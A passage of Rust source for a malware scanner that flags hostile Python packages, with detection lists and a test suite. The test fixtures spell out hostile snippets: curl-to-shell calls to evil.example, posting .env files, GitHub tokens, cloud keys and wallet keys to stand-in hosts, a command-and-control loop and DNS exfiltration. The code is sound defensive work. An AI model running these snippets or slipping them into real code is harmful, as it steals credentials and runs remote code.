                            "os.path.join" | "posixpath.join" | "ntpath.join"
                        )
                    }) =>
            {
                self.args(n)
                    .iter()
                    .filter(|a| kind(**a) != "keyword_argument")
                    .map(|a| self.path_text(*a, depth + 1))
                    .collect::<Vec<_>>()
                    .join("/")
            }
            _ => self.cmd_text(n, depth),
        }
    }

    fn cmd_text(&self, n: Node<'t>, depth: u32) -> String {
        if depth > 8 {
            return "{}".into();
        }
        let src = self.src;
        if let Some((b, _)) = self.static_bytes(n, 0) {
            return String::from_utf8_lossy(&b).to_string();
        }
        match kind(n) {
            "string" => {
                let mut c = n.walk();
                if n.named_children(&mut c).any(|x| kind(x) == "interpolation") {
                    // f-string: literal parts as written, interpolations resolved.
                    let lit = text(n, src);
                    let mut out = String::new();
                    let mut c = n.walk();
                    for ch in n.named_children(&mut c) {
                        match kind(ch) {
                            "string_content" => out.push_str(&String::from_utf8_lossy(
                                &pylit::fstring_part(lit, text(ch, src)),
                            )),
                            "interpolation" => match ch.child_by_field_id(field!("expression")) {
                                Some(e) => out.push_str(&self.cmd_text(e, depth + 1)),
                                None => out.push_str("{}"),
                            },
                            _ => {}
                        }
                    }
                    return out;
                }
                pylit::decode(text(n, src))
                    .map(|l| String::from_utf8_lossy(&l.bytes).to_string())
                    .unwrap_or_default()
            }
            "list" | "tuple" | "concatenated_string" => {
                let mut parts = Vec::new();
                let mut c = n.walk();
                for x in n.named_children(&mut c) {
                    parts.push(self.cmd_text(x, depth + 1));
                }
                parts.join(if kind(n) == "concatenated_string" {
                    ""
                } else {
                    " "
                })
            }
            "binary_operator" => {
                let l = n
                    .child_by_field_id(field!("left"))
                    .map(|x| self.cmd_text(x, depth + 1));
                let r = n
                    .child_by_field_id(field!("right"))
                    .map(|x| self.cmd_text(x, depth + 1));
                format!("{}{}", l.unwrap_or_default(), r.unwrap_or_default())
            }
            "identifier" => match self.reaching(n, text(n, src)) {
                Some(v) => self.cmd_text(v, depth + 1),
                None => "{}".into(),
            },
            "call" => {
                // "...".format(...), os.path.join(...), " ".join([...])
                let f = n.child_by_field_id(field!("function"));
                match f {
                    Some(f) if kind(f) == "attribute" => {
                        let obj = f.child_by_field_id(field!("object"));
                        let attr = f
                            .child_by_field_id(field!("attribute"))
                            .map(|a| text(a, src));
                        let args = self.args(n);
                        match attr {
                            Some("format") => {
                                obj.map(|o| self.cmd_text(o, depth + 1)).unwrap_or_default()
                            }
                            Some("join") => args
                                .first()
                                .map(|a| self.cmd_text(*a, depth + 1))
                                .unwrap_or_default(),
                            _ => args
                                .iter()
                                .filter(|a| kind(*a) != "keyword_argument")
                                .map(|a| self.cmd_text(*a, depth + 1))
                                .collect::<Vec<_>>()
                                .join("/"),
                        }
                    }
                    _ => "{}".into(),
                }
            }
            _ => {
                let t = text(n, src);
                if t.len() < 200 {
                    t.to_string()
                } else {
                    "{}".into()
                }
            }
        }
    }
}

#[allow(non_snake_case)]
fn OBF_IF_CHR(py: &Py<'_>, call: Node<'_>) -> u32 {
    let t = text(call, py.src);
    if t.contains("chr(") || t.contains("map(chr") || t.contains("reversed(") {
        OBF
    } else {
        0
    }
}

fn apply_codec(enc: &str, b: Vec<u8>, t: bool) -> Option<(Vec<u8>, bool)> {
    let enc = enc.replace('-', "_");
    Some(match enc.as_str() {
        "" | "utf8" | "utf_8" | "ascii" | "latin1" | "latin_1" | "utf_16" | "unicode_escape"
        | "iso_8859_1" => (b, t),
        "rot13" | "rot_13" => (decode::rot13(&b), true),
        "hex" | "hex_codec" => (decode::unhex(&b)?, true),
        "base64" | "base64_codec" => (decode::b64(&b)?, true),
        "zlib" | "zlib_codec" | "zip" => (decode::inflate(&b)?, true),
        "bz2" | "bz2_codec" => (decode::bunzip(&b)?, true),
        _ => return None,
    })
}

fn int_value(t: &str) -> Option<i64> {
    let t = t.trim().replace('_', "");
    let lower = t.to_ascii_lowercase();
    if let Some(h) = lower.strip_prefix("0x") {
        i64::from_str_radix(h, 16).ok()
    } else if let Some(o) = lower.strip_prefix("0o") {
        i64::from_str_radix(o, 8).ok()
    } else if let Some(b) = lower.strip_prefix("0b") {
        i64::from_str_radix(b, 2).ok()
    } else {
        t.parse().ok()
    }
}

/// Appended by [`Py::canon`] to a name the file defines itself at module level, so that
/// `def compile(...)` called as `compile(...)` never reads as the builtin.
const OWN: &str = "@own";

/// Builtins that run or import code, or reach other objects by name: `x = exec` makes `x`
/// an alias worth following.
const CODE_REACHING_BUILTINS: &[&str] = &[
    "eval",
    "exec",
    "compile",
    "execfile",
    "__import__",
    "getattr",
    "globals",
    "vars",
    "locals",
    "open",
    "setattr",
];

fn is_code_builtin(name: &str) -> bool {
    matches!(
        name,
        "exec" | "eval" | "compile" | "execfile" | "__import__"
    )
}

fn norm_builtins(s: String) -> (String, bool) {
    for p in [
        "__builtins__.",
        "builtins.",
        "__builtin__.",
        "?.__builtins__.",
    ] {
        if let Some(rest) = s.strip_prefix(p) {
            return (rest.to_string(), true);
        }
    }
    (s, false)
}

fn is_decoder(n: &str) -> bool {
    let last = n.rsplit('.').next().unwrap_or(n);
    (n.starts_with("base64.") && last.contains("decode"))
        || matches!(
            n,
            "zlib.decompress"
                | "gzip.decompress"
                | "bz2.decompress"
                | "lzma.decompress"
                | "codecs.decode"
                | "bytes.fromhex"
                | "binascii.unhexlify"
                | "binascii.a2b_hex"
                | "binascii.a2b_base64"
                | "marshal.loads"
                | "pickle.loads"
                | "cryptography.fernet.Fernet().decrypt"
        )
        || n.ends_with("Fernet().decrypt")
        || n.ends_with("AES.new().decrypt")
}

fn is_fetch(n: &str) -> bool {
    let last = n.rsplit('.').next().unwrap_or(n);
    (n.starts_with("requests.") || n.starts_with("httpx."))
        && matches!(last, "get" | "post" | "request" | "put")
        || matches!(
            n,
            "urllib.request.urlopen"
                | "urllib.urlopen"
                | "urllib2.urlopen"
                | "urlopen"
                | "urllib3.PoolManager().request"
                | "urllib.request.urlretrieve"
                | "urllib.urlretrieve"
        )
        || n.ends_with("Session().get")
        || n.ends_with("PoolManager().request")
}

fn is_network(n: &str) -> bool {
    if is_fetch(n) {
        return true;
    }
    let last = n.rsplit('.').next().unwrap_or(n);
    let root = n.split('.').next().unwrap_or(n);
    match root {
        "requests" | "httpx" => {
            matches!(
                last,
                "get" | "post" | "put" | "patch" | "delete" | "head" | "request"
            )
        }
        "urllib" | "urllib2" | "urllib3" => {
            matches!(
                last,
                "urlopen" | "urlretrieve" | "request" | "Request" | "build_opener"
            )
        }
        "http" | "httplib" => matches!(last, "HTTPConnection" | "HTTPSConnection"),
        "socket" => matches!(
            last,
            "connect" | "create_connection" | "gethostbyname" | "getaddrinfo" | "sendto"
        ),
        "dns" => matches!(last, "resolve" | "query"),
        "smtplib" => matches!(last, "SMTP" | "SMTP_SSL"),
        "ftplib" => last == "FTP",
        "aiohttp" => {
            n.contains("ClientSession")
                && matches!(
                    last,
                    "get" | "post" | "put" | "patch" | "delete" | "request" | "ws_connect"
                )
        }
        "wget" => last == "download",
        "pycurl" => last == "Curl",
        "telnetlib" => last == "Telnet",
        _ => false,
    }
}

fn is_dns(n: &str) -> bool {
    matches!(
        n,
        "socket.gethostbyname"
            | "socket.getaddrinfo"
            | "dns.resolver.resolve"
            | "dns.resolver.query"
    ) || n.ends_with("Resolver().resolve")
        || n.ends_with("Resolver().query")
}

fn is_command(n: &str) -> bool {
    let last = n.rsplit('.').next().unwrap_or(n);
    match n.split('.').next().unwrap_or(n) {
        "os" => {
            matches!(last, "system" | "popen" | "popen2" | "popen3" | "popen4")
                || (last.starts_with("exec") && n.matches('.').count() == 1)
                || (last.starts_with("spawn") && n.matches('.').count() == 1)
                || last == "posix_spawn"
        }
        "subprocess" => matches!(
            last,
            "Popen"
                | "call"
                | "run"
                | "check_output"
                | "check_call"
                | "getoutput"
                | "getstatusoutput"
        ),
        "pty" => last == "spawn",
        "commands" => matches!(last, "getoutput" | "getstatusoutput"),
        "platform" => last == "popen",
        "asyncio" => matches!(last, "create_subprocess_shell" | "create_subprocess_exec"),
        "popen2" => true,
        _ => false,
    }
}

fn is_hostinfo(n: &str) -> bool {
    matches!(
        n,
        "getpass.getuser"
            | "os.getlogin"
            | "socket.gethostname"
            | "socket.getfqdn"
            | "platform.node"
            | "platform.uname"
            | "os.uname"
            | "uuid.getnode"
            | "psutil.net_if_addrs"
            | "psutil.users"
            | "getpass.getuser()"
    )
}

fn is_clipboard_write(n: &str) -> bool {
    matches!(
        n,
        "pyperclip.copy"
            | "clipboard.copy"
            | "pyclip.copy"
            | "xerox.copy"
            | "klembord.set_text"
            | "win32clipboard.SetClipboardText"
            | "win32clipboard.SetClipboardData"
    ) || n.ends_with(".clipboard_append")
}

fn is_spy(n: &str) -> bool {
    matches!(
        n,
        "pyperclip.paste"
            | "win32clipboard.GetClipboardData"
            | "PIL.ImageGrab.grab"
            | "ImageGrab.grab"
            | "pyautogui.screenshot"
            | "pynput.keyboard.Listener"
            | "keyboard.on_press"
            | "keyboard.hook"
            | "keyboard.on_release"
            | "mss.mss"
            | "pyscreenshot.grab"
            | "clipboard.paste"
    )
}

/// The name of a keyword argument (`data` of `data=x`); `None` for a positional one.
fn keyword_name<'a>(a: Node<'_>, src: &'a [u8]) -> Option<&'a str> {
    (kind(a) == "keyword_argument")
        .then(|| a.child_by_field_id(field!("name")).map(|x| text(x, src)))
        .flatten()
}

/// Whether a path opened is a dotenv file (`.env`, `prod.env`, a `**/.env` glob): the
/// secrets of a project.
fn is_dotenv_path(p: &str) -> bool {
    let last = patterns::file_name(p).trim();
    last == ".env" || last.len() > 4 && last.ends_with(".env") && !last.contains('{')
}

/// Keyboard hooks and listeners (a subset of `is_spy`).
fn is_key_capture(n: &str) -> bool {
    matches!(
        n,
        "pynput.keyboard.Listener" | "keyboard.on_press" | "keyboard.on_release" | "keyboard.hook"
    ) || n.ends_with("SetWindowsHookExA")
        || n.ends_with("SetWindowsHookExW")
        || n.ends_with("GetAsyncKeyState")
}

fn is_stego(n: &str) -> bool {
    n.ends_with("lsb.reveal")
        || (n.starts_with("stegano") && n.ends_with("reveal"))
        || n.ends_with("Image.open().getdata")
        || n == "PIL.Image.open"
        || n == "Image.open"
}

fn is_drop_path(p: &str) -> bool {
    let exe = [
        ".exe", ".bat", ".vbs", ".scr", ".ps1", ".cmd", ".dll", ".lnk",
    ];
    exe.iter()
        .any(|e| p.trim_end_matches(['"', '\'']).ends_with(e))
        || p.contains("\\startup")
        || p.contains("/startup/")
        || p.contains("appdata")
        || p.contains("/etc/cron")
        || p.contains(".bashrc")
        || p.contains(".zshrc")
        || p.contains(".bash_profile")
        || p.contains("systemd/system")
        || p.contains("launchagents")
}

fn is_encoded_pe(v: &[u8]) -> bool {
    let t: Vec<u8> = v
        .iter()
        .copied()
        .skip_while(|c| c.is_ascii_whitespace())
        .take(8)
        .collect();
    t.starts_with(b"TVqQ")
        || t.starts_with(b"TVpQ")
        || t.starts_with(b"TVoA")
        || t.to_ascii_lowercase().starts_with(b"4d5a9000")
}

static PS_ENC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\s-e(?:nc|ncodedcommand|c)?\s+([A-Za-z0-9+/=]{20,})").expect("static regex")
});
static PY_C: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?is)python[0-9.]*(?:\.exe)?\s+-c\s+(?:"((?:[^"\\]|\\.)*)"|'((?:[^'\\]|\\.)*)')"#)
        .expect("static regex")
});

/// The script of `powershell -EncodedCommand <base64 of UTF-16LE>`.
fn powershell_decode(cmd: &str) -> Option<String> {
    let c = PS_ENC.captures(cmd)?;
    let b = decode::b64(c.get(1)?.as_str().as_bytes())?;
    if b.len() >= 2 && b.len() % 2 == 0 && b[1] == 0 {
        let u: Vec<u16> = b
            .chunks(2)
            .map(|x| u16::from_le_bytes([x[0], x[1]]))
            .collect();
        return Some(String::from_utf16_lossy(&u));
    }
    String::from_utf8(b).ok()
}

/// The code of `python -c "..."`.
fn python_c_code(cmd: &str) -> Option<String> {
    let c = PY_C.captures(cmd)?;
    let code = c.get(1).or_else(|| c.get(2))?.as_str();
    Some(code.replace("\\\"", "\"").replace("\\'", "'"))
}

/// Cheap test that a string holds Python statements rather than prose or data.
fn looks_like_python(b: &[u8]) -> bool {
    let s = String::from_utf8_lossy(&b[..b.len().min(4096)]);
    (s.contains("import ") || s.contains("exec(") || s.contains("eval("))
        && (s.contains('(') && s.contains(')'))
}

fn is_blob(b: &[u8]) -> bool {
    let sample = &b[..b.len().min(8192)];
    let ok = sample
        .iter()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=' | b'-' | b'_'))
        .count();
    ok * 100 >= sample.len() * 98 && decode::entropy(sample) > 4.0
}

/// Identifiers whose letters look like ASCII ones: mathematical alphanumerics,
/// fullwidth forms, letter-like symbols ([`folds_to_ascii`]), or Latin mixed with
/// Cyrillic/Greek.
fn lookalike(t: &str) -> bool {
    let mut ascii_alpha = false;
    let mut confusable = false;
    for c in t.chars() {
        let u = c as u32;
        if c.is_ascii_alphabetic() {
            ascii_alpha = true;
        } else if folds_to_ascii(c) {
            return true;
        } else if (0x0370..=0x03FF).contains(&u) || (0x0400..=0x04FF).contains(&u) {
            confusable = true;
        }
    }
    ascii_alpha && confusable
}

pub(crate) fn add_platforms(t: &str, sink: &mut Sink) {
    let l = t.to_ascii_lowercase();
    let quoted = |w: &str| l.contains(&format!("'{w}")) || l.contains(&format!("\"{w}"));
    if quoted("win")
        || quoted("nt'")
        || quoted("nt\"")
        || l.contains("'nt'")
        || l.contains("\"nt\"")
        || quoted("cygwin")
    {
        sink.platforms.insert(Platform::Windows);
    }
    if quoted("linux") {
        sink.platforms.insert(Platform::Linux);
    }
    if quoted("darwin") || quoted("mac") {
        sink.platforms.insert(Platform::Macos);
    }
}

/// The expressions returned by a function (not those of nested functions).
fn returns_of(func: Node<'_>) -> Vec<Node<'_>> {
    let mut out = Vec::new();
    let Some(body) = func.child_by_field_id(field!("body")) else {
        return out;
    };
    let mut stack = vec![body];
    while let Some(n) = stack.pop() {
        if out.len() > 8 {
            break;
        }
        match kind(n) {
            "function_definition" | "class_definition" | "lambda" => continue,
            "return_statement" => {
                if let Some(e) = n.named_child(0) {
                    out.push(e);
                }
                continue;
            }
            _ => {}
        }
        let mut c = n.walk();
        stack.extend(n.named_children(&mut c));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Whether `rule` fires on `src` analysed as `setup.py`.
    fn fires(src: &str, rule: &str) -> bool {
        rules(&run(src)).contains(&rule)
    }

    fn run(src: &str) -> Sink {
        let ctx = PyCtx {
            path: "pkg/setup.py",
            role: Role::Setup,
            top: Scope::INSTALL,
            func: Scope {
                stage: Stage::Runtime,
                factor: 0.6,
            },
            layer: 0,
            forced: None,
            depth_left: 5,
            max_parse: 1 << 20,
            in_pip: false,
            called: &[],
        };
        let mut sink = Sink::default();
        let mut facts = Facts::default();
        analyze(src.as_bytes(), &ctx, &mut sink, &mut facts);
        sink
    }

    fn rules(s: &Sink) -> Vec<&'static str> {
        s.findings.iter().map(|f| f.rule).collect()
    }

    #[test]
    fn dotenv_files_and_credential_commands_sent_are_stolen_data() {
        let has = |src: &str| fires(src, "EXFIL-SEND-COLLECTED");
        // Project secrets hunted with a glob (the loop variable is an item of the glob).
        assert!(has(
            "import glob, requests\nfor p in glob.glob('/home/**/.env', recursive=True):\n    requests.post('https://x.test/u', data=open(p).read())\n"
        ));
        assert!(!has(
            "import glob, requests\nfor p in glob.glob('docs/*.md'):\n    requests.post('https://x.test/u', data=open(p).read())\n"
        ));
        // A CLI's stored token sent in a body is theft; in a header it authenticates.
        assert!(has(
            "import subprocess, requests\nt = subprocess.check_output(['gh', 'auth', 'token'])\nrequests.post('https://x.test/t', data=t)\n"
        ));
        assert!(!has(
            "import subprocess, requests\nt = subprocess.check_output(['gh', 'auth', 'token']).decode().strip()\nrequests.get('https://api.github.com/user', headers={'Authorization': 'token ' + t})\n"
        ));
    }

    #[test]
    fn a_library_function_replaced_by_one_that_sends_is_a_stealing_hook() {
        let has = |src: &str| fires(src, "EXFIL-SEND-COLLECTED");
        let hook = |body: &str| {
            format!(
                "import requests, ccxt\n_orig = ccxt.mexc.sign\ndef sign(self, *a, **k):\n{body}\n    return _orig(self, *a, **k)\nccxt.mexc.sign = sign\n"
            )
        };
        assert!(has(&hook(
            "    requests.post('https://x.test/a', json={'k': self.apiKey, 's': self.secret})"
        )));
        // A tracing wrapper that only times the call, or that fetches, sends nothing.
        assert!(!has(&hook("    import time; t = time.time()")));
        assert!(!has(&hook("    requests.get('https://x.test/config')")));
        // Setting an attribute of one's own object is not patching a library.
        assert!(!has(
            "import requests\ndef send(x):\n    requests.post('https://x.test/a', data=x)\nclass C:\n    def __init__(self):\n        self.hook = send\n"
        ));
    }

    #[test]
    fn a_list_grown_at_run_time_is_not_a_static_string() {
        // pyzmq's setup.py: lines read from a file, joined and exec'd to get the version.
        let src = "def v():\n    lines = ['from typing import *\\n']\n    for line in open('v.py'):\n        lines.append(line)\n    ns = {}\n    exec(''.join(lines), ns)\n";
        assert!(!fires(src, "PY-EXEC-DECODED"), "{:?}", rules(&run(src)));
        // Joining several pieces of a static list still builds a string.
        let split = "exec(''.join(['impo', 'rt os; os.sys', 'tem(\\'id\\')']))\n";
        assert!(fires(split, "PY-EXEC-DECODED"));
    }

    #[test]
    fn cloud_keys_the_sdk_resolved_are_host_secrets() {
        let sent = "import boto3, requests\nc = boto3.Session().get_credentials()\nrequests.post('http://x.test/a', json={'k': c.access_key, 's': c.secret_key})\n";
        assert!(fires(sent, "EXFIL-SEND-COLLECTED"));
        let used = "import boto3, requests\nc = boto3.Session().get_credentials()\nrequests.post('http://x.test/a', json={'region': 'eu'})\n";
        assert!(!fires(used, "EXFIL-SEND-COLLECTED"));
        // Only the SDK's method by its own name: a helper whose name ends alike is not it.
        let own = "import requests
c = my_get_credentials()
requests.post('http://x.test/a', json={'k': c})
";
        assert!(!fires(own, "EXFIL-SEND-COLLECTED"));
        // A wallet key file read and sent is stolen data.
        let wallet = "import os, json, urllib.request\nk = json.load(open(os.path.expanduser('~/.config/solana/id.json')))\nurllib.request.urlopen('https://x.test/k', data=json.dumps(k).encode())\n";
        let r = rules(&run(wallet));
        assert!(
            r.contains(&"STEAL-WALLET") && r.contains(&"EXFIL-SEND-COLLECTED"),
            "{r:?}"
        );
    }

    #[test]
    fn text_spelled_in_escape_codes_is_obfuscation() {
        let has = |src: &str| fires(src, "PY-OBF-ESCAPED-TEXT");
        let three = "a = \"\\x65\\x76\\x61\\x6c\"\nb = '\\143\\157\\155\\160\\151\\154\\145'\nc = u\"\\x6f\\x73\\x2e\\x73\"\n";
        assert!(has(three), "{three}");
        assert_eq!(escaped_text_literals(three.as_bytes()), Some((1, 3)));
        // Two are not enough; bytes literals (BOMs, magic numbers), raw strings, control
        // characters and escapes inside readable text do not count.
        assert!(!has(
            "a = '\\x65\\x76\\x61\\x6c'\nb = '\\x65\\x76\\x61\\x6c'\n"
        ));
        assert!(!has(
            "BOM = [b'\\x2b\\x2f\\x76\\x38', b'\\x2b\\x2f\\x76\\x39', b'\\x2b\\x2f\\x76\\x2b']\n"
        ));
        assert!(!has(
            "a = r'\\x41\\x42\\x43\\x44'\nb = r'\\x41\\x42\\x43\\x44'\nc = r'\\x41\\x42\\x43\\x44'\n"
        ));
        assert!(!has(
            "a = '\\x1b\\x5b\\x30\\x6d'\nb = '\\x1b\\x5b\\x31\\x6d'\nc = '\\x1b\\x5b\\x32\\x6d'\n"
        ));
        assert!(!has(
            "a = 'x \\x41\\x42\\x43\\x44'\nb = 'x \\x41\\x42\\x43\\x44'\nc = 'x \\x41\\x42\\x43\\x44'\n"
        ));
    }

    #[test]
    fn builtins_reached_by_evaluating_their_names_are_followed() {
        // BlankOBF's opening: eval reached through eval, exec through eval(compile(...)).
        let src = "import base64\n_e = eval(\"\\x65\\x76\\x61\\x6c\")\n_x = _e('exec')\n\
                   _x(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n";
        let s = run(src);
        let r = rules(&s);
        assert!(r.contains(&"PY-EVASION-BUILTINS"), "{r:?}");
        // `_x(...)` is exec of decoded code, and the decoded layer is analysed.
        assert!(r.contains(&"PY-EXEC-DECODED"), "{r:?}");
        assert!(
            s.findings
                .iter()
                .any(|f| f.layer > 0 && f.rule.starts_with("PY-CMD")),
            "{r:?}"
        );
        // Near misses: eval of an expression, or of a harmless builtin's name.
        let s = run("x = eval('1 + 1')\nn = eval('len')\nprint(n([x]))\n");
        assert!(
            !rules(&s).contains(&"PY-EVASION-BUILTINS"),
            "{:?}",
            rules(&s)
        );
    }

    #[test]
    fn lookalike_identifiers_are_read_as_python_reads_them() {
        // `𝐨𝐬.𝐬𝐲𝐬𝐭𝐞𝐦` in mathematical bold is os.system to Python (NFKC).
        let src = "import os\n\n𝐨𝐬.𝐬𝐲𝐬𝐭𝐞𝐦('curl http://evil.example/x | sh')\n";
        let s = run(src);
        let r = rules(&s);
        assert!(r.contains(&"PY-OBF-UNICODE-IDENT"), "{r:?}");
        let cmd: Vec<_> = s
            .findings
            .iter()
            .filter(|f| f.rule.starts_with("CMD-") || f.rule == "PY-CMD-EXEC")
            .collect();
        assert!(!cmd.is_empty(), "{r:?}");
        assert!(cmd.iter().all(|f| f.line == 3), "{cmd:?}");
        // Fancy letters inside a string literal are not identifiers.
        let s = run("BANNER = '𝐇𝐞𝐥𝐥𝐨'\nprint(BANNER)\n");
        assert!(
            !rules(&s).contains(&"PY-OBF-UNICODE-IDENT"),
            "{:?}",
            rules(&s)
        );
    }

    #[test]
    fn arithmetic_character_codes_are_decoded_after_folding() {
        // Each character code written as shifts and sums, as obfuscators do.
        let payload = "import os;os.system('curl http://evil.example/x | sh')";
        let codes: Vec<String> = payload
            .bytes()
            .map(|b| format!("(({} << 2) + {}) - 0", b >> 2, b & 3))
            .collect();
        let src = format!("exec(''.join(map(chr, [{}])))\n", codes.join(", "));
        let s = run(&src);
        assert!(
            s.findings
                .iter()
                .any(|f| f.layer > 0 && f.rule.starts_with("CMD-")),
            "{:?}",
            s.findings
        );
        // Evidence still points at the original text.
        assert!(s.findings.iter().all(|f| f.line == 1), "{:?}", s.findings);
    }

    #[test]
    fn long_escape_runs_are_masked_without_moving_anything() {
        let pe = "\\x4d\\x5a\\x90\\x00".repeat(100) + "This program\\x00" + &"\\xff".repeat(80);
        let src = format!(
            "import os\ndata = b'{pe}'\nopen('a.bin', 'wb').write(data)\nos.system('a.bin')  # \\x00\n"
        );
        let masked = mask_escape_runs(src.as_bytes());
        assert!(matches!(masked, std::borrow::Cow::Owned(_)));
        assert_eq!(masked.len(), src.len());
        let m = String::from_utf8(masked.into_owned()).unwrap();
        assert!(m.contains("data = b'AAAA"), "{m}");
        // The literal ends where it ended and the code after it is untouched.
        let tail = "'\nopen('a.bin', 'wb').write(data)\nos.system('a.bin')  # \\x00\n";
        assert!(m.ends_with(tail), "{m}");
        // Short runs are left alone.
        assert!(matches!(
            mask_escape_runs(b"x = '\\x00\\x01' + 'y' * 300 + 'z'"),
            std::borrow::Cow::Borrowed(_)
        ));
        // The analysis still reads the literal's real value from the original text.
        let url = format!(
            "https://discord.com/api/webhooks/123456789/{}",
            "a".repeat(60)
        );
        let escaped: String = url.bytes().map(|b| format!("\\x{b:02x}")).collect();
        let s = run(&format!(
            "import requests\nrequests.post('{escaped}', data={{}})\n"
        ));
        assert!(
            s.findings
                .iter()
                .any(|f| f.snippet.contains("discord.com/api/webhooks")),
            "{:?}",
            rules(&s)
        );
    }

    #[test]
    fn reversing_run_time_data_is_not_obfuscation() {
        let s = run("x = 'tixe()'\neval(x[::-1])\n");
        assert!(rules(&s).contains(&"PY-EXEC-DECODED"), "{:?}", rules(&s));
        let s = run("import sys\nids = sys.argv[1:]\neval('.'.join(ids[::-1]), {})\n");
        assert!(!rules(&s).contains(&"PY-EXEC-DECODED"), "{:?}", rules(&s));
    }

    #[test]
    fn marshal_round_trips_are_not_bytecode() {
        let s = run("import marshal, base64\nexec(marshal.loads(base64.b64decode('YWJj')))\n");
        assert!(rules(&s).contains(&"PY-EXEC-MARSHAL"), "{:?}", rules(&s));
        let s = run(
            "from marshal import dumps, loads\nclass S:\n    def meta(self):\n        return loads(self._meta)\n",
        );
        assert!(!rules(&s).contains(&"PY-EXEC-MARSHAL"), "{:?}", rules(&s));
    }

    #[test]
    fn pip_calling_its_own_entry_point_is_not_indirect_import() {
        let src = "from pip._internal.cli.main import main\nmain()\n";
        let ctx_path = |path: &str| {
            let ctx = PyCtx {
                path,
                role: Role::Module,
                top: Scope::IMPORT,
                func: Scope::IMPORT,
                layer: 0,
                forced: None,
                depth_left: 5,
                max_parse: 1 << 20,
                in_pip: crate::in_pip(path),
                called: &[],
            };
            let mut sink = Sink::default();
            analyze(src.as_bytes(), &ctx, &mut sink, &mut Facts::default());
            rules(&sink)
        };
        assert!(ctx_path("evil-1.0/evil/__init__.py").contains(&"CMD-INDIRECT-IMPORT"));
        assert!(!ctx_path("pip-23.2/pip/__main__.py").contains(&"CMD-INDIRECT-IMPORT"));
    }

    #[test]
    fn aliases_resolve_to_canonical_names() {
        let s = run("import os as o\no.system('ls')\n");
        assert!(rules(&s).contains(&"PY-CMD-EXEC"));
        let s = run("from subprocess import Popen as P\nP(['ls'])\n");
        assert!(rules(&s).contains(&"PY-CMD-EXEC"));
        let s = run("import os\ngetattr(os, 'system')('ls')\n");
        assert!(rules(&s).contains(&"PY-CMD-EXEC"));
        let s = run("__import__('os').system('ls')\n");
        assert!(rules(&s).contains(&"PY-CMD-EXEC"));
        let s = run("print('os.system')\n");
        assert!(!rules(&s).contains(&"PY-CMD-EXEC"));
    }

    #[test]
    fn builtins_renamed_by_assignment_are_followed() {
        // `free = exec; replace = eval`: the code fetched at import time is run.
        let src = "from requests import get as memset\nfree = exec\nreplace = eval\n\
                   def f():\n    def replace(m):\n        return m\n    return replace\n\
                   r = memset('http://x.test/p')\nfree(replace(r.text))\n";
        assert!(fires(src, "PY-EXEC-DOWNLOADED"));
    }

    #[test]
    fn code_fetched_and_run_from_a_function_is_not_discounted() {
        let src = "import requests\nclass Sync:\n    def run(self):\n        exec(requests.get('https://x.test/p').text)\n";
        let s = run(src);
        let f = s.findings.iter().find(|f| f.rule == "PY-EXEC-DOWNLOADED");
        // Reported at run time, weighing like the file's top level (setup.py here).
        assert_eq!(
            f.map(|f| (f.stage, f.factor)),
            Some((Some(Stage::Runtime), 1.0))
        );
    }

    #[test]
    fn a_command_received_over_http_is_run_even_through_a_helper() {
        let c2 = |call: &str| {
            format!(
                "import subprocess, requests\ndef runcommand(value):\n    return subprocess.run(value, shell=True, capture_output=True)\nclass Bot:\n    def go(self, v):\n        subprocess.call(v, shell=True)\n    def poll(self):\n        while True:\n            resp = requests.get('https://c2.example.com/').text\n            {call}\n"
            )
        };
        let received = |call: &str| {
            let s = run(&c2(call));
            s.findings
                .iter()
                .find(|f| f.rule == "CMD-DECODED")
                .map(|f| (f.line, f.factor))
        };
        // Reported where the command runs, weighing like the top level.
        assert_eq!(received("runcommand(resp)"), Some((3, 1.0)));
        assert_eq!(received("self.go(resp)"), Some((6, 1.0)));
        // A helper given a fixed command, or the response as another argument, is not.
        assert_eq!(received("runcommand('git status')"), None);
        assert_eq!(received("runcommand('ls', resp)"), None);
    }

    #[test]
    fn a_variable_decoded_in_place_is_followed_to_its_earlier_value() {
        // `x = "…"; x = b64decode(x); x = zlib.decompress(x); exec(x)`
        use base64::Engine;
        let code = "import os;os.system('curl http://x.test/a|sh')";
        let b = base64::engine::general_purpose::STANDARD.encode(code);
        let src = format!("import base64\nx = '{b}'\nx = base64.b64decode(x)\nexec(x)\n");
        let s = run(&src);
        assert!(rules(&s).contains(&"PY-EXEC-DECODED"));
        // The URL of a webhook hidden the same way is still seen.
        let u = base64::engine::general_purpose::STANDARD
            .encode("https://hooks.slack.com/services/T00/B00/XXXX");
        let src = format!(
            "import base64, urllib.request\nu = '{u}'\nu = base64.b64decode(u).decode()\n\
             urllib.request.urlopen(u, data=b'x')\n"
        );
        assert!(fires(&src, "EXFIL-WEBHOOK-SEND"));
    }

    #[test]
    fn interpolations_in_adjacent_string_literals_carry_their_origin() {
        let src = "import os, json, urllib.request\n\
                   data = (\"host:\"\n        f\" {os.uname()}\"\n        f\" {dict(os.environ)}\")\n\
                   urllib.request.urlopen('http://x.test/c', data=json.dumps(data).encode())\n";
        assert!(fires(src, "EXFIL-SEND-COLLECTED"));
    }

    #[test]
    fn sending_the_whole_environment_from_a_function_is_not_discounted() {
        let factor = |body: &str| {
            let src = format!("import os, socket, requests\ndef get(url):\n    {body}\n");
            let s = run(&src);
            let f = s.findings.iter().find(|f| f.rule == "EXFIL-SEND-COLLECTED");
            f.map(|f| (f.stage, f.factor))
        };
        // Host identity from a function: run-time weight.
        assert_eq!(
            factor("requests.post('https://x.test/c', data=socket.gethostname())"),
            Some((Some(Stage::Runtime), 0.6))
        );
        // The whole environment: the file's top-level weight, still reported at run time.
        assert_eq!(
            factor("requests.post('https://x.test/c', json=dict(os.environ))"),
            Some((Some(Stage::Runtime), 1.0))
        );
    }

    #[test]
    fn commands_that_carry_collected_data_or_python_code() {
        // Host identity in a DNS lookup's name, at install.
        let dns = "import os, socket, getpass\nd = f'{getpass.getuser()}@{socket.gethostname()}'\nos.popen(f'nslookup $(echo {d}|base64).x.oast.fun')\n";
        assert!(fires(dns, "EXFIL-SEND-COLLECTED"));
        let fixed = "import os\nos.popen('nslookup pypi.org')\n";
        assert!(!fires(fixed, "EXFIL-SEND-COLLECTED"));
        // `[sys.executable, "-c", code]` runs `code`: it is analysed like `python -c`.
